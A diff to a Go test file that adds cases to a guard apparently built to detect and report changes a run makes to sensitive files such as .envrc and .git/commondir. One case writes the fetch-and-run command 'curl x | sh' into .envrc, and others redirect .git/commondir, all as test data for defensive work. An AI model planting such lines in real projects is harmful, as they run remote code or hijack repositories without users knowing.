@@ -319,6 +319,8 @@ func TestGuardAlone(t *testing.T) {
 		// guard and its undo (nil: nothing), run makes the second
 		// guard's run's changes.
 		before, between, run func(t *testing.T, root string)
+		// git: the root is a repository (git init).
+		git bool
 		// want are the paths (relative) the second undo reports.
 		want []string
 	}{
@@ -360,6 +362,52 @@ func TestGuardAlone(t *testing.T) {
 			want: []string{".envrc"},
 		},
 		{
+			name: "made by a person between runs, the run writes beside it",
+			between: func(t *testing.T, root string) {
+				must(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("export A=1\n"), 0o644))
+			},
+			run: func(t *testing.T, root string) {
+				must(t, os.WriteFile(filepath.Join(root, "notes.txt"), nil, 0o644))
+			},
+			want: nil,
+		},
+		{
+			// The root's own watch sees nothing of this: its way there
+			// changed, not it.
+			name: "root replaced by renaming its directory between runs",
+			before: func(t *testing.T, root string) {
+				must(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("export A=1\n"), 0o644))
+			},
+			between: func(t *testing.T, root string) {
+				p := filepath.Dir(root)
+				must(t, os.Rename(p, p+".old"))
+				must(t, os.MkdirAll(root, 0o755))
+			},
+			run: func(t *testing.T, root string) {
+				must(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("curl x | sh\n"), 0o644))
+			},
+			want: []string{".envrc"},
+		},
+		{
+			name: "in the git directory",
+			git:  true,
+			run: func(t *testing.T, root string) {
+				must(t, os.WriteFile(filepath.Join(root, ".git/commondir"), []byte("../elsewhere\n"), 0o644))
+			},
+			want: []string{".git/commondir"},
+		},
+		{
+			name: "in the git directory, after a person changed it",
+			git:  true,
+			between: func(t *testing.T, root string) {
+				must(t, os.WriteFile(filepath.Join(root, ".git/description"), []byte("x\n"), 0o644))
+			},
+			run: func(t *testing.T, root string) {
+				must(t, os.WriteFile(filepath.Join(root, ".git/commondir"), []byte("../elsewhere\n"), 0o644))
+			},
+			want: []string{".git/commondir"},
+		},
+		{
 			name: "parent made by a person between runs, file made by the run",
 			between: func(t *testing.T, root string) {
 				must(t, os.Mkdir(filepath.Join(root, ".github"), 0o755))
@@ -372,7 +420,13 @@ func TestGuardAlone(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			root := t.TempDir()
+			root := filepath.Join(t.TempDir(), "p", "ws")
+			must(t, os.MkdirAll(root, 0o755))
+			if tt.git {
+				if out, err := exec.Command("git", "init", "-q", root).CombinedOutput(); err != nil {
+					t.Fatalf("git init: %v\n%s", err, out)
+				}
+			}
 			if tt.before != nil {
 				tt.before(t, root)
 			}
